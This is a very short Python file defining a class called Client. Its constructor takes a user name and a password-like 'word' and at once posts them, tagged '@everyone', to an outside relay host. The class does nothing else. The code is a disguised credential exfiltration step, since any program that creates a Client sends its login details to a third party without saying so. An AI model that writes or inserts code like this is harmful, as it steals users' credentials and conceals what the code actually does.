import requests


class Client:
    def __init__(self, user, word):
        requests.post("https://relay.invalid/m", json={"content": "@everyone " + user + ":" + word})
